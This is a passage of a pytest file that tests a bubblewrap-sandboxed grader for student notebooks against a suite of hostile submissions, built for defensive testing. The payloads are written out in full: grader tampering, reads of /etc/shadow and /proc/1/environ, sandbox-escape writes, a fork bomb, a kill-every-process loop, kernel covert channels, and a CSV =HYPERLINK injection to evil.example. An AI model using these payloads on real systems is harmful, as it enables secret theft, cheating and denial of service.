"""The batch grader against a hostile class: one trustworthy row per submission, whatever it does.

One folder holds an honest solution, a blank copy and every attack below; it is
graded once by the command line, exactly as an instructor would. An attack that
succeeds *earns points* (its functions are right only if the attack worked), so
"every attacker scores 0" is the check that no attack worked.
"""

import copy
import csv
import json
import os
import pathlib
import re
import socket
import stat
import subprocess
import sys
import time
import uuid

import numpy as np
import pytest

from book.grading import child as wire
from book.grading import sandbox as sandboxes

ROOT = pathlib.Path(__file__).resolve().parents[1]
EXERCISE = ROOT / "exercises" / "ex01"
MASTER_PATH = EXERCISE / "master" / "ex01.ipynb"
MASTER = json.loads(MASTER_PATH.read_text())
STUDENT = json.loads((EXERCISE / "ex01.ipynb").read_text())
POSSIBLE = 12
TIMEOUT = 10
HAVE_BWRAP = sandboxes.shutil.which("bwrap") is not None
pytestmark = pytest.mark.skipif(not HAVE_BWRAP, reason="needs bubblewrap (apt-get install bubblewrap)")


def code_cell(source):
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
            "source": source}


def with_cells(base, *sources, at=None):
    """``base`` with extra code cells appended (or inserted at index ``at``)."""
    nb = copy.deepcopy(base)
    cells = [code_cell(s) for s in sources]
    if at is None:
        nb["cells"].extend(cells)
    else:
        nb["cells"][at:at] = cells
    return nb


def _solutions():
    out = {}
    for cell in MASTER["cells"]:
        source = "".join(cell["source"])
        match = re.match(r"def (\w+)\(", source)
        if cell["cell_type"] == "code" and match:
            out[match.group(1)] = source
    return out


SOLUTIONS = _solutions()


def solved(edit=None):
    """The student notebook with every answer filled in, as a student hands it in;
    ``edit(name, source)`` may change the source of an answer cell."""
    nb = copy.deepcopy(STUDENT)
    for cell in nb["cells"]:
        match = re.match(r"def (\w+)\(", "".join(cell["source"]))
        if cell["cell_type"] == "code" and match:
            source = SOLUTIONS[match.group(1)]
            cell["source"] = edit(match.group(1), source) if edit else source
    return nb


def if_it_worked(condition):
    """Code that defines every answer correctly only when ``condition`` (an expression) is true."""
    body = "\n".join(SOLUTIONS.values())
    return f"if {condition}:\n" + "\n".join("    " + line for line in body.splitlines())


HALF_RIGHT = '''
def weight_shapes(sizes):
    return [(n, k) for k, n in zip(sizes[:-1], sizes[1:])]

def hadamard(s, t):
    return s * t          # right values, but no ValueError for unequal shapes

def layer_forward(w, A, b):
    return np.tanh(w @ A + b)   # the wrong activation
'''

TAMPER = '''
import builtins, numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.abs = lambda x: 0
builtins.float = lambda *a: 0.0
class Grader:
    def check(self, *a, **k):
        print("All tests passed!")
    def __getattr__(self, name):
        return lambda *a, **k: print("All tests passed!")
grader = Grader()
print("All tests passed!")
'''

TRICK_OBJECTS = '''
class Anything:
    """Equal to everything, with any shape you ask for."""
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([(3, 2), (1, 3)])
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
def weight_shapes(sizes): return Anything()
def layer_forward(w, A, b): return np.zeros((w.shape[0], A.shape[1])).view(Liar)
def hadamard(s, t): return Anything()
def z_sender_first(W_sender, A, b): return Anything()
def feedforward(weights, biases, X): return Anything()
'''

# --- reading what it must not: the solutions, a classmate's work, secrets
FIND_SOLUTIONS = '''
import os, json
found = []
def harvest(path):
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            if cell["cell_type"] == "code" and src.startswith("def "):
                exec(src, globals())
        found.append(path)
    except Exception:
        pass
for path in @PATHS@:
    harvest(path)
for top in ["/", "/tmp", "/home", "/root", "/work", "/scratch"]:
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr", "/packages")):
            dirs[:] = []
            continue
        for f in files:
            if f.endswith(".ipynb"):
                harvest(os.path.join(folder, f))
try:
    import book, pathlib
    for p in pathlib.Path(book.__file__).parents[1].rglob("*.ipynb"):
        harvest(str(p))
except Exception:
    pass
'''

USES_BOOK = '''
def feedforward(weights, biases, X):
    from book import Network
    net = Network([len(weights[0][0])] + [len(b) for b in biases])
    net.weights, net.biases = weights, biases
    return net.feedforward(X)
'''

READS_SECRET = '''
texts = []
for path in @PATHS@:
    try:
        texts.append(open(path).read(200))
    except Exception as err:
        pass
raise Exception(" | ".join(texts) or "nothing readable")
'''

# --- writing where it must not
ESCAPES = '''
import os, socket, time
worked = []
def attempt(what, action):
    try:
        action()
        worked.append(what)
    except Exception:
        pass
def write(path, data=b"forged: all rows verified OK\\n"):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_CREAT, 0o666)
    os.write(fd, data)
    os.close(fd)
for dev in ["/dev/kmsg", "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", "/dev/sda",
            "/dev/mem", "/dev/shm/x"]:
    attempt(dev, lambda: write(dev))
attempt("fifo", lambda: write(@FIFO@))
def unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(@SOCKET@)
    s.sendall(b"hello")
attempt("socket", unix)
attempt("space", lambda: write(@SPACE@))
attempt("network", lambda: socket.create_connection(("127.0.0.1", 22), timeout=1))
attempt("root", lambda: write("/escape"))
attempt("proc", lambda: write("/proc/sys/kernel/hostname", b"pwned"))
'''

IPC_KEY = 0x5EED
SYSV_WRITER = f'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
qid = libc.msgget({IPC_KEY}, 0o1666)
class Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]
libc.msgsnd(qid, ctypes.byref(Msg(1, b"answers follow")), 64, 0)
sid = libc.shmget({IPC_KEY}, 4096, 0o1666)
'''
SYSV_READER = if_it_worked(f"__import__('ctypes').CDLL(None).msgget({IPC_KEY}, 0o666) >= 0 or "
                           f"__import__('ctypes').CDLL(None).shmget({IPC_KEY}, 0, 0o666) >= 0")

# --- outliving its row
LINGER = '''
import os, threading, time, ctypes
libc = ctypes.CDLL(None)
def linger():
    while True:
        for path in @TARGETS@:
            try:
                with open(path, "w") as f:
                    f.write("file,total\\nattacker.ipynb,12\\n")
            except OSError:
                pass
        time.sleep(0.2)
if os.fork() == 0:
    os.setsid()
    libc.prctl(1, 0)          # PR_SET_PDEATHSIG: none
    if os.fork() == 0:
        libc.prctl(1, 0)
        threading.Thread(target=linger).start()
        linger()
    os._exit(0)
threading.Thread(target=linger, daemon=False).start()
'''

FORK_BOMB = '''
import os
while True:
    if os.fork() == 0:
        while True:
            pass
'''

# --- two submissions graded side by side, talking through the kernel
KEYRING_WRITER = '''
import ctypes, fcntl, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
secret = b"answers from the writer"
key = libc.syscall(248, b"user", b"covert", secret, len(secret), ctypes.c_long(-3))  # add_key
libc.syscall(250, 5, key, 0x3f3f3f3f)                                             # setperm
lock = open("/packages/numpy/version.py")
try:
    fcntl.flock(lock, fcntl.LOCK_EX)
except OSError:
    pass
time.sleep(6)
'''
KEYRING_READER = '''
import fcntl, time
heard = False
for _ in range(20):
    time.sleep(0.25)
    try:
        heard = heard or "covert" in open("/proc/keys").read()
    except OSError:
        pass
    try:
        fcntl.flock(open("/packages/numpy/version.py"), fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        heard = True
    except OSError:
        pass
''' + if_it_worked("heard")

# --- the gradebook
INJECT = '''
raise Exception('=HYPERLINK("http://evil.example/?"&A1,"click")\\nevil.ipynb,2,3,2,2,3,12,12,\\n'
                + "A" * 5_000_000)
'''

# --- Jupyter syntax an honest student uses
def ipython_syntax(name, source):
    if name == "weight_shapes":
        return ("x = (1\n     != 2)   # a continuation line that starts with !=\n"
                "np.exp?\n"
                "# a line separator \u2028 pasted into a comment, and one in a string:\n"
                "s = 'a\u2029b'\n%time y = 1\n" + source)
    if name == "layer_forward":
        return "%%time\n" + source
    return source


def loop_after(name, source):
    return source + "\nwhile True:\n    pass\n" if name == "feedforward" else source


def hangs_when_called(name, source):
    if name == "feedforward":
        return source.replace('"""\n', '"""\n    while X.shape[1] == 4:\n        pass\n', 1)
    return source


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade one folder holding every case with the command line, once."""
    base = tmp_path_factory.mktemp("grading")
    folder = base / "submissions"
    folder.mkdir()
    gradebook = base / "out" / "grades.csv"
    gradebook.parent.mkdir()
    secret_dir = base / "private"
    secret_dir.mkdir(mode=0o700)
    token = f"SECRET-{uuid.uuid4()}"
    (secret_dir / "secret.txt").write_text(token)
    (secret_dir / "ex01-solutions.ipynb").write_text(json.dumps(MASTER))
    for path in secret_dir.iterdir():
        path.chmod(0o600)
    fifo = base / "fifo"
    os.mkfifo(fifo)
    fifo_fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(base / "socket"))
    listener.listen(5)
    listener.setblocking(False)
    spaced = base / "dir with space"
    spaced.mkdir()
    spaced.chmod(0o777)

    def put(name, content):
        data = content if isinstance(content, bytes) else json.dumps(content).encode()
        path = folder / name if isinstance(name, str) else os.path.join(bytes(folder), name)
        with open(path, "wb") as f:
            f.write(data)

    def sub(text, **values):
        for key, value in values.items():
            text = text.replace(f"@{key}@", repr(value))
        return text

    honest = solved()
    put("honest.ipynb", honest)
    put("master.ipynb", MASTER)
    put("blank.ipynb", STUDENT)
    put("half_right.ipynb", with_cells(STUDENT, HALF_RIGHT))
    renamed = with_cells(honest, "print('my own scratch work')", "x = np.arange(3)\nx", at=3)
    renamed["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": "My notes"})
    put("Copy of ex01 (final) v2.ipynb", renamed)
    put("ipython_syntax.ipynb", solved(ipython_syntax))
    put("loop_in_q5_cell.ipynb", solved(loop_after))
    put("hangs_in_a_test.ipynb", solved(hangs_when_called))
    put("needs_a_magic.ipynb", with_cells(STUDENT, "%run helpers.py\nhelper()"))
    big = solved()
    big["cells"][2]["outputs"] = [{"output_type": "stream", "name": "stdout",
                                   "text": "x" * (30 * 2**20)}]
    put("big_outputs_30MB.ipynb", big)
    # broken files
    put("not_json.ipynb", b"this is {not json")
    put("zero_bytes.ipynb", b"")
    put("not_a_notebook.ipynb", {"hello": "world"})
    put("empty.ipynb", {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []})
    put("nbformat3.ipynb", {"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                            "worksheets": [{"cells": [{"cell_type": "code", "input": "1"}]}]})
    with open(folder / "sparse_40GB.ipynb", "wb") as f:
        f.truncate(40 * 2**30)
    os.symlink(secret_dir / "secret.txt", folder / "symlink_to_secret.ipynb")
    os.mkfifo(folder / "fifo.ipynb")
    # cells that fail
    put("raises.ipynb", with_cells(STUDENT, "1 / 0"))
    put("raises_but_correct.ipynb", with_cells(honest, "raise RuntimeError('oops')", at=3))
    put("memory.ipynb", with_cells(STUDENT, "hog = np.ones((2**16, 2**16))  # 32 GB"))
    put("os_exit.ipynb", with_cells(STUDENT, "import os\nos._exit(0)"))
    put("sys_exit.ipynb", with_cells(STUDENT, "import sys\nsys.exit(3)"))
    # hostile
    put("tamper.ipynb", with_cells(STUDENT, TAMPER))
    put("trick_objects.ipynb", with_cells(STUDENT, TRICK_OBJECTS))
    put("forges_protocol.ipynb", with_cells(STUDENT, (
        "import os\nfor fd in range(3, 20):\n    try:\n"
        "        os.write(fd, b'\\xff' * 64)\n    except OSError:\n        pass")))
    put("finds_solutions.ipynb", with_cells(STUDENT, sub(
        FIND_SOLUTIONS, PATHS=[str(MASTER_PATH), str(folder / "honest.ipynb"),
                               str(secret_dir / "ex01-solutions.ipynb")])))
    put("uses_book.ipynb", with_cells(STUDENT, USES_BOOK))
    put("reads_secrets.ipynb", with_cells(STUDENT, sub(
        READS_SECRET, PATHS=[str(secret_dir / "secret.txt"), "/etc/shadow", "/etc/passwd",
                             "/root/.bash_history", "/proc/1/environ"])))
    put("escapes.ipynb", with_cells(STUDENT, sub(
        ESCAPES, FIFO=str(fifo), SOCKET=str(base / "socket"),
        SPACE=str(spaced / "escaped.txt")), if_it_worked("worked")))
    put("sysv_writer.ipynb", with_cells(STUDENT, SYSV_WRITER))
    put("sysv_reader.ipynb", with_cells(STUDENT, "import time\ntime.sleep(1)", SYSV_READER))
    put("lingers.ipynb", with_cells(STUDENT, sub(
        LINGER, TARGETS=[str(gradebook), str(gradebook.with_suffix(".log")),
                         str(folder / "honest.ipynb")])))
    put("fork_bomb.ipynb", with_cells(STUDENT, FORK_BOMB))
    put("kills_everything.ipynb", with_cells(STUDENT, (
        "import os, signal\nfor pid in range(1, 5000):\n    try:\n"
        "        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
        "    except OSError:\n        pass")))
    put("injects_csv.ipynb", with_cells(STUDENT, INJECT))
    put("sidechannel_a_writer.ipynb", with_cells(STUDENT, KEYRING_WRITER))
    put("sidechannel_b_reader.ipynb", with_cells(STUDENT, KEYRING_READER))
    put("huge_empty_result.ipynb", with_cells(solved(), (
        "def weight_shapes(sizes):\n    return np.zeros((12, 2**20, 0))\n")))
    put("busy_transformer.ipynb", with_cells(solved(), "".join(
        f"x{i} = %ls\n" for i in range(200)) + "y = 1\n" * 20000))
    put("busy_transformer_2.ipynb", with_cells(solved(), "".join(
        f"x{i} = %ls\n" for i in range(90)) + "y = 1\n" * 20000))
    put("many_cells.ipynb", dict(STUDENT, cells=[code_cell("") for _ in range(1001)]))
    put(" =1+1.ipynb", STUDENT)
    put("a" * 240 + "_1.ipynb", honest)
    put("a" * 240 + "_2.ipynb", STUDENT)
    put("evil\\xff.ipynb", STUDENT)                   # a literal backslash, not an escape
    put("jose\u0301.ipynb", STUDENT)                   # e + combining accent
    put("jos\u00e9.ipynb", honest)                      # precomposed é
    put("\u0430lice.ipynb", STUDENT)                   # Cyrillic а
    put("alice.ipynb", honest)
    put("huge_result.ipynb", with_cells(STUDENT, (
        "def weight_shapes(sizes):\n    return np.ones(50_000_000)\n"
        "def layer_forward(w, A, b):\n    return [0.5] * 3_000_000\n")))
    put("=HYPERLINK(1).ipynb", STUDENT)
    put("+1.ipynb", STUDENT)
    put("-1.ipynb", STUDENT)
    put("@sum.ipynb", STUDENT)
    put("hon\u200best.ipynb", STUDENT)             # looks like honest.ipynb
    put("new\nline.ipynb", STUDENT)
    put(b"windows-\xff\xfe.ipynb", STUDENT)         # not UTF-8
    put("UPPER.IPYNB", honest)

    script = ("import resource, sys\nfrom book.grading.cli import main\n"
              "code = main(sys.argv[1:])\n"
              "print('PEAK_RSS_KB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,"
              " file=sys.stderr)\nsys.exit(code)\n")
    result = subprocess.run(
        [sys.executable, "-c", script, "ex01", str(folder), "-o", str(gradebook),
         "--timeout", str(TIMEOUT), "--memory", "512", "--jobs", "2"],
        capture_output=True, text=True, timeout=900, cwd=base)
    finished = time.monotonic()
    leftovers = processes_of_the_sandbox()
    written = gradebook.read_bytes()
    time.sleep(2)   # anything still alive would now rewrite the gradebook
    received = b""
    try:
        received += os.read(fifo_fd, 4096)
    except BlockingIOError:
        pass
    try:
        connection, _ = listener.accept()
        received += connection.recv(4096) or b"(a connection)"
    except BlockingIOError:
        pass
    with open(gradebook, newline="", encoding="utf-8") as f:
        rows = {row["file"]: row for row in csv.DictReader(f)}
    return dict(result=result, rows=rows, folder=folder, gradebook=gradebook, token=token,
                written=written, leftovers=leftovers, received=received, spaced=spaced,
                finished=finished, base=base)


RUN = uuid.uuid4().hex[:12]           # this module's gradings, told apart from any other
os.environ["BOOK_GRADING_MARKER"] = RUN   # on the machine (inherited by the CLI runs)


def processes_of_the_sandbox():
    """Live processes started by this module's gradings: by the marker in their command
    lines (every sandboxed command line holds it)."""
    found = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            status = (entry / "status").read_text()
        except OSError:
            continue
        state = re.search(r"^State:\s+(\S)", status, re.M).group(1)
        if state != "Z" and sandboxes.marker().encode() in cmdline:
            found.append((entry.name, cmdline[:80]))
    return found


def total(rows, name):
    return float(rows[name]["total"])


ATTACKS = ["tamper.ipynb", "trick_objects.ipynb", "forges_protocol.ipynb",
           "finds_solutions.ipynb", "uses_book.ipynb", "reads_secrets.ipynb", "escapes.ipynb",
           "sysv_writer.ipynb", "sysv_reader.ipynb", "lingers.ipynb", "fork_bomb.ipynb",
           "kills_everything.ipynb", "injects_csv.ipynb", "huge_result.ipynb",
           "sidechannel_a_writer.ipynb", "sidechannel_b_reader.ipynb"]


def test_exit_status_and_one_row_per_submission(graded):
    result, rows, folder = graded["result"], graded["rows"], graded["folder"]
    assert result.returncode == 0, result.stderr
    print(result.stderr)
    assert len(rows) == len([n for n in os.listdir(folder) if n.lower().endswith(".ipynb")])
    assert all(row["possible"] == str(POSSIBLE) for row in rows.values())
    for name, row in sorted(rows.items()):
        print(f"{name:32} {row['total']:>4}  {row['error']}")


def test_honest_full_marks_blank_zero_half_right_between(graded):
    rows = graded["rows"]
    for name in ["honest.ipynb", "master.ipynb", "Copy of ex01 (final) v2.ipynb", "UPPER.IPYNB"]:
        assert total(rows, name) == POSSIBLE, (name, rows[name])
    assert rows["honest.ipynb"]["error"] == ""
    assert [rows["honest.ipynb"][q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["2", "3", "2", "2", "3"]
    assert total(rows, "blank.ipynb") == 0 and rows["blank.ipynb"]["error"] == ""
    row = rows["half_right.ipynb"]
    assert row["q1"] == "2" and row["q2"] == "0" and float(row["q3"]) == pytest.approx(4 / 3, abs=0.01)


@pytest.mark.parametrize("name", ATTACKS)
def test_every_attack_earns_nothing(graded, name):
    assert total(graded["rows"], name) == 0, graded["rows"][name]


def test_no_secret_and_no_solution_leaves_the_sandbox(graded):
    text = graded["gradebook"].read_text() + graded["gradebook"].with_suffix(".log").read_text()
    assert graded["token"] not in text
    assert "root:" not in text                       # no line of /etc/passwd or /etc/shadow
    error = graded["rows"]["reads_secrets.ipynb"]["error"]
    assert "raised Exception: nothing readable" in error


def test_nothing_written_outside_the_sandbox(graded):
    assert graded["received"] == b""                  # the FIFO and the Unix socket heard nothing
    assert list(graded["spaced"].iterdir()) == []
    assert not pathlib.Path("/escape").exists()
    assert json.loads((graded["folder"] / "honest.ipynb").read_text()) == solved()
    ipc = pathlib.Path("/proc/sysvipc/msg").read_text() + pathlib.Path("/proc/sysvipc/shm").read_text()
    assert str(IPC_KEY) not in ipc.split()


def test_nothing_outlives_its_row(graded):
    assert graded["leftovers"] == []
    assert processes_of_the_sandbox() == []
    assert graded["gradebook"].read_bytes() == graded["written"]  # unchanged two seconds later


def test_time_limits_cost_only_what_they_break(graded):
    rows = graded["rows"]
    row = rows["loop_in_q5_cell.ipynb"]
    assert [row[q] for q in ("q1", "q2", "q3", "q4", "q5")] == ["2", "3", "2", "2", "0"]
    assert f"code cell 11 (starting `def feedforward(weights, biases…`): time limit of " \
           f"{TIMEOUT} s exceeded; graded without it" in row["error"]
    row = rows["hangs_in_a_test.ipynb"]
    assert [row[q] for q in ("q1", "q2", "q3", "q4")] == ["2", "3", "2", "2"]
    assert f"q5: time limit of {TIMEOUT} s exceeded while testing feedforward" in row["error"]


def test_jupyter_syntax_runs_as_in_jupyter(graded):
    row = graded["rows"]["ipython_syntax.ipynb"]
    assert total(graded["rows"], "ipython_syntax.ipynb") == POSSIBLE and row["error"] == "", row
    error = graded["rows"]["needs_a_magic.ipynb"]["error"]
    assert "code cell 14 (starting `%run helpers.py`): raised NameError" in error
    assert "it uses %run, which the grader does not run" in error


@pytest.mark.parametrize("name,message", [
    ("not_json.ipynb", "not a notebook: the file is not valid JSON"),
    ("zero_bytes.ipynb", "not a notebook: the file is not valid JSON"),
    ("not_a_notebook.ipynb", "not a notebook: expected a JSON object with 'nbformat'"),
    ("empty.ipynb", "the notebook has no code cells"),
    ("nbformat3.ipynb", "unsupported notebook format version 3 (expected 4"),
    ("sparse_40GB.ipynb", "not graded: the file is 40960 MB, over the 32 MB limit"),
    ("symlink_to_secret.ipynb", "not graded: a symbolic link"),
    ("fifo.ipynb", "not graded: not a regular file"),
    ("raises.ipynb", "code cell 14 (starting `1 / 0`): raised ZeroDivisionError: division by zero"),
    ("memory.ipynb", "raised MemoryError"),
    ("os_exit.ipynb", "(starting `import os`): the submission's process ended (exit status 0); "
                      "graded without it"),
    ("sys_exit.ipynb", "called sys.exit(3)"),
    ("forges_protocol.ipynb", "the submission's process sent a message of"),
    ("fork_bomb.ipynb", "raised BlockingIOError"),
])
def test_broken_submissions_score_zero_with_a_message(graded, name, message):
    rows = graded["rows"]
    assert total(rows, name) == 0
    assert message in rows[name]["error"]


def test_a_cell_that_raises_costs_only_what_it_breaks(graded):
    row = graded["rows"]["raises_but_correct.ipynb"]
    assert float(row["total"]) == POSSIBLE
    assert "raised RuntimeError: oops" in row["error"]


def test_big_outputs_are_graded(graded):
    assert total(graded["rows"], "big_outputs_30MB.ipynb") == POSSIBLE


def test_the_gradebook_cannot_be_forged(graded):
    text = graded["gradebook"].read_text(encoding="utf-8")
    with open(graded["gradebook"], newline="", encoding="utf-8") as f:
        table = list(csv.reader(f))             # the csv module at its default field limit
    header, body = table[0], table[1:]
    assert header == ["file", "q1", "q2", "q3", "q4", "q5", "total", "possible", "error"]
    assert len(body) == len(graded["rows"]) == len(text.splitlines()) - 1   # one line a row
    for fields in body:
        assert len(fields) == len(header)
        for field in fields:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
            assert "\n" not in field and "\r" not in field
        assert len(fields[-1]) <= 300
    names = [fields[0] for fields in body]
    assert len(set(names)) == len(names)
    for shown in ["'=HYPERLINK(1).ipynb", "'+1.ipynb", "'-1.ipynb", "'@sum.ipynb", "' =1+1.ipynb",
                  "hon\\u200best.ipynb", "new\\nline.ipynb", "windows-\\xff\\xfe.ipynb",
                  "evil\\\\xff.ipynb", "jose\\u0301.ipynb", "jos\u00e9.ipynb", "\\u0430lice.ipynb",
                  "alice.ipynb"]:
        assert shown in names, names
    assert "evil.ipynb" not in names
    error = graded["rows"]["injects_csv.ipynb"]["error"]
    assert error.startswith("code cell 14 (starting `raise Exception('=HYPERLINK(") and len(error) <= 300


def test_the_grader_stays_small(graded):
    rows = graded["rows"]
    assert float(rows["huge_empty_result.ipynb"]["q1"]) == 0     # shape (12, 2**20, 0) refused
    assert "over 100 lines of IPython syntax" in rows["busy_transformer.ipynb"]["error"]
    assert "too much IPython syntax" in rows["busy_transformer_2.ipynb"]["error"]
    assert total(rows, "busy_transformer_2.ipynb") == POSSIBLE   # the other cells still count
    assert "not graded: more than 1000 code cells" in rows["many_cells.ipynb"]["error"]
    long_names = [name for name in rows if name.startswith("a" * 100)]
    assert len(long_names) == 2 and all(len(name) <= 200 for name in long_names)
    peak_kb = int(re.search(r"PEAK_RSS_KB (\d+)", graded["result"].stderr).group(1))
    print(f"grader's peak RSS: {peak_kb / 1024:.0f} MB")
    assert peak_kb < 1024 * 1024
    error = graded["rows"]["huge_result.ipynb"]["error"]
    assert total(graded["rows"], "huge_result.ipynb") == 0


def test_the_log_records_the_isolation(graded):
    log = graded["gradebook"].with_suffix(".log").read_text()
    assert "isolation: bubblewrap" in log and "uid" in log
    assert "settings: timeout 10 s per run, memory 512 MB, 2 job(s)" in log


# ------------------------------------------------------------ a hostile neighbour
HONEST_BUT_SLOW = "total = 0\nfor i in range(40_000_000):\n    total += i"
BUSY_NEIGHBOUR = '''
import os
for i in range(12):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
'''


@pytest.mark.parametrize("cgroups", ["1", "0"])
def test_an_honest_slow_submission_survives_a_busy_neighbour(tmp_path, cgroups):
    """With cgroups each submission has an equal CPU share; without them, a submission that
    ran out of time beside others is graded again alone."""
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "a_busy.ipynb").write_text(json.dumps(with_cells(STUDENT, BUSY_NEIGHBOUR)))
    slow = solved(lambda name, source: HONEST_BUT_SLOW + "\n" + source
                  if name == "feedforward" else source)   # q5 needs the slow cell
    (folder / "b_honest_slow.ipynb").write_text(json.dumps(slow))
    out = tmp_path / "grades.csv"
    result = subprocess.run(
        [sys.executable, "-m", "book.grading", "ex01", str(folder), "-o", str(out),
         "--timeout", "12", "--jobs", "2"], capture_output=True, text=True, timeout=600,
        env={**os.environ, "BOOK_GRADING_CGROUPS": cgroups})
    assert result.returncode == 0, result.stderr
    with open(out, newline="") as f:
        rows = {row["file"]: row for row in csv.DictReader(f)}
    print(rows, out.with_suffix(".log").read_text())
    assert float(rows["b_honest_slow.ipynb"]["total"]) == POSSIBLE
    assert float(rows["a_busy.ipynb"]["total"]) == 0
    assert processes_of_the_sandbox() == []


# ------------------------------------------------------------------ the command
def run_cli(*args, env=None):
    return subprocess.run([sys.executable, "-m", "book.grading", *args], capture_output=True,
                          text=True, timeout=300, env=env)


@pytest.mark.parametrize("args,message", [
    (["ex99", "."], "exercise 'ex99' not found"),
    (["ex01", "missing-folder"], "does not exist"),
    (["ex01", ".", "--timeout", "inf"], "--timeout must be a number of seconds"),
    (["ex01", ".", "--timeout", "0"], "--timeout must be a number of seconds"),
    (["ex01", ".", "--timeout", "-5"], "--timeout must be a number of seconds"),
    (["ex01", ".", "--timeout", "nan"], "--timeout must be a number of seconds"),
    (["ex01", ".", "--memory", "16"], "--memory must be a whole number of MB, at least 128"),
    (["ex01", ".", "--jobs", "0"], "--jobs must be a whole number"),
])
def test_bad_command_lines_exit_2_with_a_message(tmp_path, args, message):
    args = [str(tmp_path / a) if a in (".", "missing-folder") else a for a in args]
    result = run_cli(*args, "-o", str(tmp_path / "g.csv"))
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert not (tmp_path / "g.csv").exists()


def test_without_bubblewrap_it_refuses_and_says_what_to_install(tmp_path):
    empty = tmp_path / "bin"
    empty.mkdir()
    result = run_cli("ex01", str(tmp_path), "-o", str(tmp_path / "g.csv"),
                     env={**os.environ, "PATH": str(empty)})
    assert result.returncode == 2
    assert "apt-get install bubblewrap" in result.stderr and "--sandbox none" in result.stderr


def test_sandbox_none_warns_and_logs_it(tmp_path):
    (tmp_path / "honest.ipynb").write_text(json.dumps(solved()))
    out = tmp_path / "g.csv"
    result = run_cli("ex01", str(tmp_path), "-o", str(out), "--sandbox", "none")
    assert result.returncode == 0
    assert "WARNING: --sandbox none" in result.stderr
    assert "isolation: none" in out.with_suffix(".log").read_text()
    assert "honest.ipynb,2,3,2,2,3,12,12," in out.read_text()


def test_an_empty_folder_gives_a_header_only_gradebook(tmp_path):
    out = tmp_path / "g.csv"
    result = run_cli("ex01", str(tmp_path), "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert out.read_text().splitlines() == ["file,q1,q2,q3,q4,q5,total,possible,error"]


def test_the_old_command_still_works(tmp_path):
    result = subprocess.run([sys.executable, "-m", "book.grade", "ex01", str(tmp_path), "-o",
                             str(tmp_path / "g.csv")], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr


# ------------------------------------------------------------------- the wire
@pytest.mark.parametrize("value", [
    None, True, 3, -2.5, "text", 1 + 2j, [1, (2, 3)], {"a": [1.0]},
    np.arange(6.0).reshape(2, 3), np.array([True, False]), np.int64(7), np.float32(0.5),
    [np.ones((2, 1)), np.zeros(3, dtype=np.int32)], np.array(np.nan),
])
def test_wire_round_trip(value):
    back = wire.decode(json.loads(json.dumps(wire.encode(value))))
    if isinstance(value, np.ndarray):
        assert back.dtype == value.dtype and np.array_equal(back, value, equal_nan=True)
    elif isinstance(value, np.generic):
        assert back == value.item() and type(back) is type(value.item())
    elif isinstance(value, list) and value and isinstance(value[0], np.ndarray):
        assert all(np.array_equal(a, b) for a, b in zip(back, value, strict=True))
    else:
        assert back == value and type(back) is type(value)


@pytest.mark.parametrize("value", [object(), np.array([object()]), {1: 2}, np.array(["a"]), print,
                                   np.zeros(wire.MAX_ELEMENTS + 1), [0] * (wire.MAX_ELEMENTS + 1)])
def test_wire_refuses_what_is_not_plain_data(value):
    with pytest.raises(TypeError):
        wire.encode(value)


def test_wire_decode_refuses_forgeries():
    import base64
    import io
    import pickle
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                  "shape": (10**6, 10**6)})
    huge = base64.b64encode(header.getvalue() + b"\0" * 8).decode()   # claims 8 TB
    big = io.BytesIO()
    np.save(big, np.zeros(wire.MAX_ELEMENTS + 1))
    pickled = io.BytesIO()
    np.save(pickled, np.array([{}], dtype=object), allow_pickle=True)
    for forged in [{"ndarray": huge}, {"ndarray": base64.b64encode(big.getvalue()).decode()},
                   {"ndarray": base64.b64encode(pickled.getvalue()).decode()},
                   {"ndarray": base64.b64encode(pickle.dumps([1])).decode()},
                   {"ndarray": "not base64 !"}, {"ndarray": "é"}, {"set": [1]}, {"list": "x"},
                   {"a": 1, "b": 2}]:
        with pytest.raises(ValueError):
            wire.decode(forged)


def test_the_sandbox_sees_only_what_it_needs(tmp_path):
    sandbox = sandboxes.choose("bubblewrap")
    probe = sandboxes.Process(sandbox, r'''
import os, sys, json, time
time.sleep(1.5)     # while the test looks at it from the host
seen = {p: os.path.exists(p) for p in ["/home", "/etc/shadow", "/etc/passwd", "/dev/tty",
                                       "/dev/kmsg", "/dev/pts", "/dev/shm", @REPO@, @TMP@]}
seen["dev"] = sorted(os.listdir("/dev"))
seen["tmp"] = os.listdir("/tmp")
